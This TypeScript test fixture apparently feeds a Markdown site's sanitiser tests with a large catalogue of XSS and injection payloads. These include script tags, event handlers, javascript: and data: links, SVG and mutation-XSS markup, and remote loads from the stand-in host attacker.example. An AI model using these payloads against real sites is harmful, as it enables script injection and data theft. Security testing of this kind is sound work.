/** What an attack tries to do: leave a mark, show a dialog, and reach another host. */
const code = "window.__attacked=1;alert('attacked')";
const away = 'https://attacker.example';
const svgData = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`).toString('base64');
const htmlData = Buffer.from(`<script>${code}</script>`).toString('base64');

/** Markdown bodies by what they try. */
export const bodyAttacks: Readonly<Record<string, string>> = {
  // Scripts
  script: `<script>${code}</script>`,
  'script with a source': `<script src="${away}/x.js"></script><script src="data:text/javascript,${code}"></script>`,
  'script in capitals and pieces': `<ScRiPt>${code}</sCrIpT><scr<script>ipt>${code}</scr</script>ipt>`,
  'script in a list, a quote and a table': `- <script>${code}</script>\n\n> <script>${code}</script>\n\n| a |\n|---|\n| <script>${code}</script> |`,
  'module script': `<script type="module">${code}</script>`,
  // Handlers
  'image that fails': `<img src=x onerror="${code}">`,
  'image without a space': `<img/src="x"/onerror="${code}">`,
  'image that loads': `<img src="real.png" onload="${code}">`,
  'video that fails': `<video src=x onerror="${code}"></video><audio src=x onerror="${code}"></audio><video><source onerror="${code}"></video>`,
  'open details': `<details open ontoggle="${code}"><summary>a</summary>b</details>`,
  'focus by itself': `<input autofocus onfocus="${code}"><a href="#" autofocus onfocus="${code}">a</a><p tabindex=0 autofocus onfocus="${code}">a</p>`,
  'pointer over everything': `<div onmouseover="${code}" onpointerenter="${code}" style="position:fixed;inset:0">a</div>`,
  'body with a handler': `<body onload="${code}" onpageshow="${code}" onhashchange="${code}">`,
  marquee: `<marquee onstart="${code}">a</marquee>`,
  'animation handler': `<p style="animation:x 1s" onanimationstart="${code}">a</p>`,
  'handler in a heading': `## <img src=x onerror="${code}"> a\n\nb`,
  'handler in a link text': `[<img src=x onerror="${code}">](other.md)`,
  'popover handler': `<div popover id=pop onbeforetoggle="${code}">a</div><button popovertarget=pop>b</button>`,
  // Addresses
  'javascript link': `[a](javascript:${encodeURI(code)})`,
  'javascript link with entities': `<a href="&#106;&#x61;vascript&colon;${code}">a</a>`,
  'javascript link with line breaks': `<a href="java\nscript:${code}">a</a><a href="java\tscript:${code}">b</a>`,
  'javascript link with control characters': `<a href="\u0001javascript:${code}">a</a><a href=" &#14; javascript:${code}">b</a>`,
  'javascript reference': `[a][b] ![c][b]\n\n[b]: javascript:${encodeURI(code)}`,
  'javascript in angle brackets': `<javascript:${encodeURI(code)}>`,
  'javascript in every attribute': `<a href=x xlink:href="javascript:${code}" ping="${away}" formaction="javascript:${code}" action="javascript:${code}">a</a>`,
  'javascript in a map': `<map name=m><area shape=default href="javascript:${code}"></map><img src="real.png" usemap="#m">`,
  'vbscript link': `[a](VBScript:msgbox(1)) [b](jscript:x) [c](livescript:x) [d](mocha:x)`,
  'data link': `[a](data:text/html;base64,${htmlData}) <a href="data:text/html,<script>${code}</script>">b</a>`,
  'data image': `![a](data:image/svg+xml;base64,${svgData}) <img src="data:image/svg+xml;base64,${svgData}">`,
  'blob, file and view-source links': '[a](blob:null/x) [b](file:///etc/passwd) [c](view-source:x) [d](filesystem:x)',
  'own scheme': `<a href="playbook-id:javascript%3A${encodeURIComponent(code)}">a</a> [[javascript:${encodeURIComponent(code)}]]`,
  'double encoding': `[a](%6Aavascript:${encodeURI(code)}) [b](javascript%3A${encodeURIComponent(code)})`,
  // Loading from elsewhere
  'remote image': `![a](${away}/x.png) <img src="//attacker.example/y.png" srcset="${away}/z.png 2x">`,
  'remote image, odd slashes':
    '<img src="\\\\attacker.example\\x.png"><img src="/\t/attacker.example/x.png"><img src="https:attacker.example/x.png">',
  'remote video': `<video src="${away}/x.mp4" poster="${away}/x.png" autoplay></video><audio src="${away}/x.mp3" autoplay></audio><track src="${away}/x.vtt">`,
  'remote picture sources': `<picture><source srcset="${away}/x.png"><img src=real.png></picture>`,
  'remote background': `<table background="${away}/x.png"><tr><td background="${away}/y.png">a</td></tr></table><body background="${away}/z.png">`,
  'prefetch and preload': `<link rel=prefetch href="${away}/x"><link rel=preload as=script href="${away}/x.js"><link rel=dns-prefetch href="${away}"><link rel=stylesheet href="${away}/x.css">`,
  'anchor that reports': `<a href="other.md" ping="${away}/ping" attributionsrc="${away}">a</a><img attributionsrc="${away}" src=real.png>`,
  // SVG and MathML inside HTML
  'SVG script': `<svg><script>${code}</script><script href="data:,${code}"></script></svg>`,
  'SVG handler': `<svg onload="${code}"><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  'SVG foreignObject': `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${code}"><img src=x onerror="${code}"></body></foreignObject></svg>`,
  'SVG use': `<svg><use href="data:image/svg+xml;base64,${svgData}#x"/><use href="${away}/x.svg#y"/></svg>`,
  'SVG animated link': `<svg><a><animate attributeName=href values="javascript:${code}" begin=0s dur=1s fill=freeze /><text y=20>a</text></a><set attributeName=onmouseover to="${code}"/></svg>`,
  'SVG image and filter': `<svg><image href="${away}/x.png"/><filter><feImage href="${away}/y.png"/></filter></svg>`,
  MathML: `<math><maction actiontype="statusline#${away}" xlink:href="javascript:${code}">a</maction><mtext href="javascript:${code}">b</mtext></math>`,
  // Styles
  'style element': `<style>@import url(${away}/x.css);body{background:url(${away}/y.png)}@font-face{font-family:a;src:url(${away}/z)}*{font-family:a}</style>`,
  'style attribute': `<p style="background:url(${away}/x.png)">a</p><p style="width:expression(${code})">b</p><p style="behavior:url(${away})">c</p><p style="-moz-binding:url(${away})">d</p>`,
  'style that hides the page':
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">a</div><div class="search-panel off-screen top-bar">b</div>',
  // Broken nesting and markup that changes when it is parsed twice
  'unclosed tags': `<div><p><table><tr><td><a href="x" title="<script>${code}</script>"><b></div></p>`,
  'unclosed attribute': `<img title="\`><img src=x onerror=${code}>`,
  'attribute that breaks out': `<a title='"><img src=x onerror="${code}">'>a</a> [a](<x.md" onmouseover="${code}>) ![b](real.png '"><img src=x onerror="${code}">')`,
  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror='${code}'>"></noscript>`,
  'mutation by template': `<template><img src=x onerror="${code}"></template><template shadowrootmode=open><img src=x onerror="${code}"></template>`,
  'mutation by title and textarea': `<title><img src=x onerror="${code}"></title><textarea><p title="</textarea><img src=x onerror='${code}'>"></textarea>`,
  'mutation by math and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;"></mglyph></table></mtext></math>`,
  'mutation by annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${code}"></style></annotation-xml></math>`,
  'mutation by SVG and style': `<svg></p><style><a id="</style><img src=1 onerror='${code}'>"></svg>`,
  'mutation by SVG description': `<svg><desc><noscript><a title="</noscript><img src=x onerror='${code}'>"></a></noscript></desc></svg>`,
  'mutation by forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${code}"></style></mglyph></form></mtext></math>`,
  'mutation by plain text': `<plaintext><img src=x onerror="${code}">`,
  'mutation by xmp and listing': `<xmp><p title="</xmp><img src=x onerror='${code}'>"></xmp><listing>&lt;img src=x onerror="${code}"&gt;</listing>`,
  'mutation by noembed and noframes': `<noembed><p title="</noembed><img src=x onerror='${code}'>"></noembed><noframes><p title="</noframes><img src=x onerror='${code}'>"></noframes>`,
  'mutation by select': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror='${code}'>">a</a></select>`,
  'mutation by deep nesting': `${'<div>'.repeat(600)}<table><caption><svg><title><style><img title="</style><img src=x onerror='${code}'>"></title></svg>${'</div>'.repeat(600)}`,
  comments: `<!--><img src=x onerror="${code}">--> <!-- --!><img src=x onerror="${code}"> --> <!---><script>${code}</script>-->`,
  'CDATA and instructions': `<![CDATA[<img src=x onerror="${code}">]]><?xml <img src=x onerror="${code}"> ?><!x <img src=x onerror="${code}">>`,
  'Markdown inside HTML inside Markdown': `<b title="*"onmouseover="${code}"*">a</b> *<i*><img src=x onerror="${code}">*`,
  'null characters': `<scr\u0000ipt>${code}</scr\u0000ipt><img src=x on\u0000error="${code}">`,
  'entities that become markup': `&lt;script&gt;${code}&lt;/script&gt; &#60;img src=x onerror=${code}&#62;`,
  // Names that scripts look up
  'ids of the page and the document': `<p id=body>a</p><img name=body src=real.png><img name=createElement src=real.png><p id=head>b</p><p id=documentElement>c</p>`,
  'ids that our own scripts look up':
    '<p id=pageSearchField>a</p><p id=pageSearchResults>b</p><p id=pageAnnouncements>c</p><p id=pageMain>d</p><p id=__attacked>e</p><p id=playbookSearchData>f</p>',
  'form that shadows its properties':
    '<form id=attributes><input name=attributes><input name=nodeName><input name=parentNode><input id=children></form>',
  'data attributes of our own scripts': `<div data-wording><blockquote>a</blockquote><button data-copy onclick="${code}">b</button></div><div data-flow><div data-node=x data-start>c</div><div data-node=y>d</div></div><span class=placeholder data-name=x data-label=y onclick="${code}">e</span><div class=embedded data-include=0>f</div><div class=variants data-variants=channel><button class=tab data-variant=x>g</button></div>`,
  'names in headings': '## __proto__\n\na\n\n## constructor\n\nb\n\n## pageMain\n\nc\n\n## body\n\nd',
  // Leaving the page
  'meta refresh': `<meta http-equiv=refresh content="0;url=${away}"><meta http-equiv="refresh" content="0;javascript:${code}">`,
  'meta policy': `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><meta name=referrer content=unsafe-url>`,
  base: `<base href="${away}/"><base target=_top>`,
  form: `<form action="${away}" id=f><input name=a type=submit autofocus><button formaction="javascript:${code}">b</button><input type=image src="${away}/x.png"></form><button form=f>c</button>`,
  iframe: `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.${code}</script>"></iframe><iframe src="javascript:parent.${code}"></iframe>`,
  frameset: `<frameset onload="${code}"><frame src="javascript:parent.${code}"></frameset>`,
  'object and embed': `<object data="javascript:${code}"></object><object data="attack.svg" type="image/svg+xml"></object><embed src="attack.svg"><embed src="data:image/svg+xml;base64,${svgData}"><applet code=x></applet>`,
  portal: `<portal src="${away}"></portal><fencedframe src="${away}"></fencedframe><webview src="${away}"></webview>`,
  // Our own syntax
  'include of markup': `::include{id="<img src=x onerror='${code}'>"}\n\n::include{id=attack-svg onclick="${code}" class="x" style="background:url(${away})"}`,
  'placeholder of markup': `> {{<img src=x onerror="${code}">}} {{a"onmouseover="${code}}} {{__proto__}}`,
  'directives of markup': `1. a :owner[<img src=x onerror="${code}">]{onclick="${code}" id=pageMain} :within[<script>${code}</script>] :record[**<svg onload="${code}">**] :outcome[x" onclick="${code}]`,
  'callouts with attributes': `:::note{onclick="${code}" style="background:url(${away})" id=body}\n<img src=x onerror="${code}">\n:::`,
  'id links of markup': `[[<img src=x onerror="${code}">]] [[x|<img src=x onerror="${code}">]] [[x"onmouseover="${code}]]`,
  footnotes: `a[^"><img src=x onerror="${code}">] b[^1]\n\n[^"><img src=x onerror="${code}">]: c\n\n[^1]: <img src=x onerror="${code}"> [d](javascript:x)`,
  'flow of markup': `## 流程\n\n### <img src=x onerror="${code}">a\n\n- [<img src=x onerror="${code}">](#b)\n- [b](javascript:${encodeURI(code)})\n\n### b\n\n:outcome[resolved]`,
  'code and its language': `\`\`\`"><img src=x onerror="${code}">\n</code></pre><script>${code}</script>\n\`\`\`\n\n\`<script>${code}</script>\``,
  'links to assets that would run': `[a](attack.html) [b](attack.svg) [c](attack.xml) [d](attack.js) ![e](attack.svg) <img src="attack.svg#x"> [f](attack.txt)`,
};

/** Text for every place that is not a body. */
export const textAttacks: readonly string[] = [
  `</title><script>${code}</script>`,
  `"><img src=x onerror="${code}">`,
  `'"></script></style></textarea><svg onload="${code}">`,
  `javascript:${code}`,
  `{{constructor.constructor("${code.replaceAll("'", '')}")()}} \${${code}} <%= ${code} %>`,
  `]]></script><!--<script>${code}</script>-->`,
  `\\"-${code}-\\u2028\u2028//`,
];

/** SVG files by what they try; a page shows and links to each. */
export const svgAttacks: Readonly<Record<string, string>> = {
  script: `<script>${code}</script><rect width="9" height="9"/>`,
  'script by CDATA': `<script><![CDATA[${code}]]></script><script href="${away}/x.js"/>`,
  handlers: `<g onload="${code}"><rect width="9" height="9" onclick="${code}" onmouseover="${code}"/></g>`,
  animation: `<a href="#x"><animate attributeName="href" to="javascript:${code}" onbegin="${code}"/><text y="9">a</text></a><set attributeName="onmouseover" to="${code}"/>`,
  'embedded HTML': `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script><iframe src="${away}"/></body></foreignObject>`,
  'links and images elsewhere': `<a href="javascript:${code}"><text y="9">a</text></a><image href="${away}/x.png"/><use href="${away}/x.svg#y"/><feImage href="${away}/z.png"/>`,
  styles: `<style>@import url(${away}/x.css); rect{fill:url(${away}/y#z)}</style><rect width="9" height="9" style="fill:url(${away}/q#r)"/>`,
  'other namespaces': `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${code}</h:script><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="${code}"/><handler xmlns="http://www.w3.org/2000/svg">${code}</handler>`,
  entities: `<text>&a;</text>`,
  'inner frames': `<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${code}"/><embed xmlns="http://www.w3.org/1999/xhtml" src="data:text/html,x"/>`,
};

/** The whole file for the inside of an SVG attack. */
export function svgFile(inside: string): string {
  return `<?xml version="1.0"?>\n<?xml-stylesheet href="${away}/x.xsl" type="text/xsl"?>\n<!DOCTYPE svg [<!ENTITY a "<script xmlns='http://www.w3.org/2000/svg'>${code}</script>">]>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="${code}">${inside}</svg>\n`;
}

export const attackCode = code;
